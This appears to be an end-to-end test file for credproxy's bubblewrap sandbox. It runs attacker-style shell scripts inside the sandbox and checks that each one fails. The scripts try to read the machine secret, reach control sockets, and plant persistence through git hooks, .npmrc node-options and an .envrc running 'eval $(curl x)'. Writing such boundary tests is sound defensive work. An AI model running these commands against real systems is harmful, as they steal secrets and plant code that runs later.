// The sandbox boundary tried from inside a real bubblewrap sandbox, as an attacker
// would: credproxy's own files wherever they live, the install and host-executed
// files under cwd, descriptors the launcher left open, the secret's descriptor, the
// host session keyring, and pruning run from inside. Needs `npm run build`.
import { spawnSync } from 'node:child_process'
import { accessSync, constants, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { createHash } from 'node:crypto'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterEach, describe, expect, test } from 'vitest'
import { resolvePaths } from '../src/paths.js'
import { registerSession, sessionsDir } from '../src/control/session-registry.js'
import { pruneStaleSessions } from '../src/control/stale-sessions.js'
import { openHostStores } from '../src/storage/index.js'
import { cliEnv, makeCliHome, removeCliHomes, runCli } from './helpers/cli-runner.js'

const BIN = fileURLToPath(new URL('../bin/credproxy.js', import.meta.url))
const PROBE = fileURLToPath(new URL('./fixtures/sandbox-probe.mjs', import.meta.url))
const REPO = fileURLToPath(new URL('../../../', import.meta.url))
const KEY_VALUE = 'granted-key-value-5e0b21'
const OTHER_VALUE = 'ungranted-key-value-c4a9f3'

const extra: string[] = []
afterEach(() => {
  removeCliHomes()
  for (const dir of extra.splice(0)) rmSync(dir, { recursive: true, force: true })
})

function scratch(parent: string, prefix: string): string {
  const dir = mkdtempSync(join(parent, prefix))
  extra.push(dir)
  return dir
}

const hash = (path: string): string => createHash('sha256').update(readFileSync(path)).digest('hex')

/** A writable system directory outside /tmp, /var/tmp, /run and every home (root test machines: /opt). */
const OUTSIDE_PARENT = ['/opt', '/srv', '/var/lib'].find((dir) => {
  try {
    accessSync(dir, constants.W_OK)
    return true
  } catch {
    return false
  }
})

describe.runIf(process.platform === 'linux')('the bwrap sandbox boundary, tried from inside', () => {
  test.runIf(OUTSIDE_PARENT !== undefined)('credproxy dirs outside /tmp, /run and the home (CREDPROXY_HOME=/opt/...) are hidden: no file, no control socket', async () => {
    // Not under any directory the sandbox hides anyway: only credproxy's own tmpfs can hide it.
    const home = scratch(OUTSIDE_PARENT as string, 'cp-e2e-')
    const cwd = scratch(tmpdir(), 'cp-e2e-cwd-')
    const env = { ...cliEnv(home) }
    const stores = await openHostStores({ env, log: () => undefined })
    await stores.keys.saveKey('K', KEY_VALUE)
    await stores.keys.saveKey('OTHER', OTHER_VALUE)
    await stores.tokens.close?.()
    const paths = resolvePaths(env)
    expect(readdirSync(paths.dataDir).length).toBeGreaterThan(0)
    const script = [
      `echo "entries:$(ls -A ${home} | wc -l)"`,
      `find ${home} -type f -exec cat {} + 2>/dev/null`,
      `cat ${join(paths.dataDir, 'machine-secret.json')} 2>/dev/null && echo READ_SECRET`,
      `for s in ${paths.runtimeDir}/control-*.sock; do node -e 'require("net").connect(process.argv[1]).on("connect",()=>{console.log("CONTROL_CONNECTED");process.exit(0)}).on("error",e=>console.log("control:"+e.code))' "$s"; done`,
      `node ${PROBE} K OTHER`,
    ].join('; ')
    const result = await runCli(['run', '--sandbox', 'bwrap', '--grant-key', 'K', '--', 'sh', '-c', script], { env, cwd })
    expect(result.stderr).not.toContain(OTHER_VALUE)
    expect(result.code).toBe(0)
    expect(result.stdout).toContain('entries:0')
    expect(result.stdout).not.toContain('READ_SECRET')
    expect(result.stdout).not.toContain('CONTROL_CONNECTED')
    expect(result.stdout).toContain('control:ENOENT')
    expect(result.stdout).not.toContain(OTHER_VALUE)
    // The broker still serves the grant through its socket.
    expect(result.stdout).toContain(`"K":{"ok":true,"value":"${KEY_VALUE}"}`)
  })

  test('the install under cwd and host-executed files in cwd cannot be changed from inside; the rest of cwd is writable', () => {
    // A project with credproxy installed locally (the README's `npx credproxy run`): a copy of the built packages.
    const project = scratch(tmpdir(), 'cp-e2e-proj-')
    const modules = join(project, 'node_modules')
    for (const [from, to] of [
      ['packages/cli', '@credproxy/cli'],
      ['packages/core', '@credproxy/core'],
    ] as const) {
      for (const part of ['bin', 'dist', 'package.json']) {
        if (existsSync(join(REPO, from, part))) cpSync(join(REPO, from, part), join(modules, to, part), { recursive: true })
      }
    }
    for (const dep of ['@napi-rs', 'koffi', 'openid-client', 'proper-lockfile', 'zod']) symlinkSync(join(REPO, 'node_modules', dep), join(modules, dep))
    mkdirSync(join(project, '.git', 'hooks'), { recursive: true })
    writeFileSync(join(project, '.git', 'config'), '[core]\n')
    const dist = join(modules, '@credproxy/cli/dist/commands/sessions.js')
    const before = hash(dist)
    const home = scratch(tmpdir(), 'cp-e2e-home-')
    const attack = [
      `echo 'console.log("pwned")' >> ${dist} || echo dist-refused`,
      "echo 'node-options=--require=/tmp/x.js' > .npmrc || echo npmrc-refused",
      'rm -f .npmrc; mv .npmrc npmrc-moved',
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit || echo hook-refused",
      'echo "[core] hooksPath = /tmp" >> .git/config || echo config-refused',
      'mv .git .git-old && mkdir -p .git/hooks && echo pwned > .git/hooks/pre-commit',
      "echo 'eval $(curl x)' > .envrc",
      "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
      'echo ok > normal.txt',
    ].join('; ')
    const result = spawnSync(process.execPath, [join(modules, '@credproxy/cli/bin/credproxy.js'), 'run', '--sandbox', 'bwrap', '--', 'sh', '-c', attack], {
      cwd: project,
      env: cliEnv(home),
      encoding: 'utf8',
      timeout: 30_000,
    })
    expect(result.stderr).toMatch(/Read-only file system/)
    expect(result.stdout).toContain('dist-refused')
    expect(result.stdout).toContain('npmrc-refused')
    expect(result.stdout).toContain('hook-refused')
    expect(result.stdout).toContain('config-refused')
    expect(hash(dist)).toBe(before)
    // Nothing planted reached the host, and the stand-ins for missing files are gone again.
    expect(readdirSync(project).sort()).toEqual(['.git', 'node_modules', 'normal.txt'])
    expect(readdirSync(join(project, '.git', 'hooks'))).toEqual([])
    expect(readFileSync(join(project, '.git', 'config'), 'utf8')).toBe('[core]\n')
    expect(readFileSync(join(project, 'normal.txt'), 'utf8')).toBe('ok\n')
  })

  test('a working directory that is or contains the home, or holds a credproxy dir, is refused with a message', async () => {
    const { env, home } = await makeCliHome('cp-e2e-')
    const userHome = scratch(tmpdir(), 'cp-e2e-uh-')
    const asHome = await runCli(['run', '--sandbox', 'bwrap', '--', 'true'], { env: { ...env, HOME: userHome }, cwd: userHome })
    expect(asHome.code).toBe(2)
    expect(asHome.stderr).toContain(`is or contains your home directory ${userHome}`)
    const above = await runCli(['run', '--sandbox', 'bwrap', '--', 'true'], { env, cwd: join(home, '..') })
    expect(above.code).toBe(2)
    expect(above.stderr).toContain("contains credproxy's own directory")
    // --bind through a symlink to the credproxy dir is that dir.
    const link = join(scratch(tmpdir(), 'cp-e2e-ln-'), 'link')
    symlinkSync(home, link)
    const bound = await runCli(['run', '--sandbox', 'bwrap', '--bind', link, '--', 'true'], { env, cwd: scratch(tmpdir(), 'cp-e2e-cwd-') })
    expect(bound.code).toBe(2)
    expect(bound.stderr).toContain("credproxy's own directory")
  })

  test('descriptors the launcher left open never reach the sandbox: only 0, 1, 2 (bwrap consumed the secret\'s fd 3)', async () => {
    const { env, cwd, home } = await makeCliHome('cp-e2e-', async (stores) => stores.keys.saveKey('OTHER', OTHER_VALUE))
    // fd 100 on the (hidden) credproxy home, fd 101 a stray pipe, as a shell or parent might leave them.
    // `ls` runs as the command itself: no shell pipeline whose pipe fds would show up.
    const result = spawnSync('bash', ['-c', `exec 100<"$0"; exec 101</dev/zero; exec "$@"`, home, process.execPath, BIN, 'run', '--sandbox', 'bwrap', '--', 'ls', '-l', '/proc/self/fd/'], {
      cwd,
      env,
      encoding: 'utf8',
      timeout: 30_000,
    })
    expect(result.stderr).toBe('')
    expect(result.status).toBe(0)
    // "N -> target" per descriptor, less the directory ls itself opened to list them.
    const fds = [...result.stdout.matchAll(/ (\d+) -> (.*)$/gm)].map((m) => [m[1] ?? '', m[2] ?? '']).filter(([, target]) => !/^\/proc\/\d+\/fd$/.test(target ?? ''))
    expect(fds.map(([fd]) => Number(fd)).sort((a, b) => a - b)).toEqual([0, 1, 2])
    expect(result.stdout).not.toContain(home)
  })

  test('the secret file cannot be rewritten, widened or removed from inside: later clients still authenticate', async () => {
    const { env, cwd } = await makeCliHome('cp-e2e-', async (stores) => stores.keys.saveKey('K', KEY_VALUE))
    const f = '"$CREDPROXY_SECRET_FILE"'
    const script = [
      `stat -c %a ${f}`,
      `printf 0000 > ${f} || echo rewrite-refused`,
      `chmod 600 ${f} || echo chmod-refused`,
      `rm -f ${f} || echo rm-refused`,
      `mv ${f} /run/credproxy-secret/x || echo mv-refused`,
      `node ${PROBE} K`,
    ].join('; ')
    const result = await runCli(['run', '--sandbox', 'bwrap', '--grant-key', 'K', '--', 'sh', '-c', script], { env, cwd })
    expect(result.stdout.split('\n')[0]).toBe('400')
    for (const refused of ['rewrite-refused', 'chmod-refused', 'rm-refused', 'mv-refused']) expect(result.stdout).toContain(refused)
    expect(result.stdout).toContain(`"K":{"ok":true,"value":"${KEY_VALUE}"}`)
  })

  const hasKeyctl = spawnSync('keyctl', ['--version'], { stdio: 'ignore' }).error === undefined

  test.runIf(hasKeyctl)('/proc/keys inside does not list the host session keyring', async () => {
    const { env, cwd } = await makeCliHome('cp-e2e-')
    const description = `cp-e2e-key-${process.pid}`
    const result = spawnSync(
      'keyctl',
      ['session', '-', 'sh', '-c', `keyctl add user ${description} v @s >/dev/null && grep -c ${description} /proc/keys && exec "$@"`, 'sh', process.execPath, BIN, 'run', '--sandbox', 'bwrap', '--', 'sh', '-c', 'cat /proc/keys; unshare -Urpf --mount-proc cat /proc/keys 2>&1; exit 0'],
      { cwd, env, encoding: 'utf8', timeout: 30_000 },
    )
    // Seen on the host, not inside (nor through a fresh procfs in a nested namespace).
    expect(result.stdout.split('\n')[0]).toBe('1')
    expect(result.stdout.split('\n').slice(1).join('\n')).not.toContain(description)
    expect(result.status).toBe(0)
  })
})

describe('stale-session pruning inside a sandbox', () => {
  test('never removes anything when run inside a credproxy sandbox (host pids look dead there)', async () => {
    const home = scratch(tmpdir(), 'cp-e2e-prune-')
    const paths = resolvePaths({ CREDPROXY_HOME: home })
    // A session whose credproxy pid cannot be seen: what every host session looks like from inside.
    await registerSession(paths, {
      id: 'deadbeefdeadbeef',
      pid: 2 ** 22 + 1,
      socketPath: '/nonexistent/broker.sock',
      controlSocketPath: join(paths.runtimeDir, 'control-deadbeefdeadbeef.sock'),
      started: new Date(0).toISOString(),
      command: null,
    })
    const inside = { CREDPROXY_SOCKET: '/run/credproxy/broker.sock', CREDPROXY_SECRET_FD: '3' }
    const removed: string[] = []
    expect(await pruneStaleSessions(paths, (p) => removed.push(p), inside)).toEqual([])
    const insideBwrap = { CREDPROXY_SOCKET: '/run/credproxy/broker.sock', CREDPROXY_SECRET_FILE: '/run/credproxy-secret/session-secret' }
    expect(await pruneStaleSessions(paths, (p) => removed.push(p), insideBwrap)).toEqual([])
    expect(readdirSync(sessionsDir(paths))).toEqual(['deadbeefdeadbeef.json'])
    // On the host the same entry is pruned.
    await pruneStaleSessions(paths, undefined, {})
    expect(readdirSync(sessionsDir(paths))).toEqual([])
  })
})

describe('runtime directory without XDG_RUNTIME_DIR', () => {
  test('lies under the user\'s own state dir, never a name in the shared /tmp another user could take first', () => {
    const paths = resolvePaths({ HOME: '/home/alice' })
    expect(paths.runtimeDir).toBe('/home/alice/.local/state/credproxy/run')
    expect(resolvePaths({ HOME: '/home/alice', XDG_RUNTIME_DIR: '/run/user/1000' }).runtimeDir).toBe('/run/user/1000/credproxy')
  })
})
